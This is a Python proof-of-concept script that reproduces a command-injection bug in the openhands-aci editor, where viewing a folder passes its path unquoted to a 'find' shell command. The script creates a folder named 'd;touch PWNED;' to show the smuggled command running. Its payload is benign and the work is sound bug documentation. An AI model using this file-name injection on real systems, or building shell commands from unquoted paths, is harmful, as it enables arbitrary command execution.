"""Not a clause of the contract: `view` of a folder runs a shell command built with the path
unquoted (`find -L {path} -maxdepth 2 ...` through run_shell_cmd), so a folder whose name holds
shell syntax runs it. Here a folder named `d;touch PWNED;` makes a file PWNED appear.

    .cache/peers/openhands-aci/venv/bin/python peers/openhands-aci/repro/folder_name_runs.py
"""

import os
import sys
import tempfile
from pathlib import Path

from openhands_aci.editor import OHEditor

with tempfile.TemporaryDirectory() as base:
    os.chdir(base)  # the injected command runs in the process's folder
    folder = Path(base, "d;touch PWNED;")
    folder.mkdir()
    OHEditor()(command="view", path=str(folder))
    ran = Path(base, "PWNED").exists()
    print("a folder's name ran as a shell command: PWNED was created" if ran
          else "not reproduced")
    os.chdir("/")
sys.exit(1 if ran else 0)
